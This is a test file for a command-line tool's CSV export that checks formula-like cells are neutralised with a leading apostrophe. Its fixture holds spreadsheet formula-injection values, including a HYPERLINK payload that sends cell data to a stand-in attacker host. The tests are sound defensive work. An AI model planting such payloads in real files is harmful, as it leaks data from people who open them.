// CSV a spreadsheet opens safely (issue 16, finding 14): a cell that starts like a formula (= + - @,
// or a tab or carriage return) gets a leading ' (OWASP's advice), so LibreOffice and Excel show the
// text instead of running it; --raw keeps every cell exactly as stored.
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { expectUsageError, parseCsv, sandbox, type Sandbox } from '../helpers.js';

let box: Sandbox;
beforeEach(() => (box = sandbox()));
afterEach(() => box.cleanup());

const HOSTILE = {
  account: '=Acme',
  name: '@Jane Roe',
  summary: '=HYPERLINK("http://evil.test/?leak="&A1,"click")',
  pain: '+1+2',
  quote: '-3+4 said the CFO',
  tag: '@SUM(1)',
  notes: '\t=1+1\nsecond line',
  by: '\r=2+2',
};

function hostileJournal(): void {
  const r = box.pm([
    'log',
    '--with',
    HOSTILE.name,
    '--account',
    HOSTILE.account,
    '--summary',
    HOSTILE.summary,
    '--pain',
    HOSTILE.pain,
    '--quote',
    HOSTILE.quote,
    '--tag',
    HOSTILE.tag,
    '--notes',
    HOSTILE.notes,
    '--by',
    HOSTILE.by,
    '--follow-up',
    '+3d',
  ]);
  if (r.code !== 0) throw new Error(r.err);
  const plain = box.pm(['log', '--with', 'Ann Lee', '--account', 'Globex', '--summary', 'A plain - safe summary']);
  if (plain.code !== 0) throw new Error(plain.err);
}

function rows(text: string): Record<string, string>[] {
  const [header, ...records] = parseCsv(text);
  return records.map((r) => Object.fromEntries(header.map((k, i) => [k, r[i]])));
}

describe('pm export --format csv against spreadsheet formulas', () => {
  it("prefixes every cell that starts with = + - @ tab or CR with ', and nothing else", () => {
    hostileJournal();
    const r = box.pm(['export', '--format', 'csv']);
    expect(r.code, r.err).toBe(0);
    const [hostile, plain] = rows(r.out);
    expect(hostile).toMatchObject({
      account: `'${HOSTILE.account}`,
      with: `'${HOSTILE.name}`,
      summary: `'${HOSTILE.summary}`,
      pains: `'${HOSTILE.pain}`,
      quotes: `'${HOSTILE.quote}`,
      tags: `'${HOSTILE.tag}`,
      notes: `'${HOSTILE.notes}`,
      by: `'${HOSTILE.by}`,
      follow_up: '2026-11-23',
    });
    // no cell of the file starts like a formula any more
    for (const record of parseCsv(r.out)) for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // text that merely holds those characters further in is left alone
    expect(plain).toMatchObject({ account: 'Globex', with: 'Ann Lee', summary: 'A plain - safe summary' });
  });

  it('--raw keeps every cell exactly as stored; the JSON export is the stored text too', () => {
    hostileJournal();
    const r = box.pm(['export', '--format', 'csv', '--raw']);
    expect(r.code, r.err).toBe(0);
    const [hostile] = rows(r.out);
    expect(hostile).toMatchObject({
      account: HOSTILE.account,
      with: HOSTILE.name,
      summary: HOSTILE.summary,
      pains: HOSTILE.pain,
      quotes: HOSTILE.quote,
      tags: HOSTILE.tag,
      notes: HOSTILE.notes,
      by: HOSTILE.by,
    });
    const doc = box.json(['export']);
    expect(doc.interviews[0].summary).toBe(HOSTILE.summary);
  });

  it('--raw with markdown or JSON is a usage error (they always hold the stored text)', () => {
    hostileJournal();
    const before = box.snapshot();
    expectUsageError(box.pm(['export', '--raw']));
    expectUsageError(box.pm(['export', '--format', 'json', '--raw']));
    expect(box.snapshot()).toBe(before);
  });

  it('is UTF-8 without a byte-order mark', () => {
    const r = box.pm(['log', '--with', 'José Peña', '--account', 'Ünïcode', '--summary', 'naïve café']);
    expect(r.code, r.err).toBe(0);
    const out = box.pm(['export', '--format', 'csv']).out;
    expect(out.startsWith('id,')).toBe(true);
    expect(rows(out)[0]).toMatchObject({ with: 'José Peña', account: 'Ünïcode', summary: 'naïve café' });
  });
});
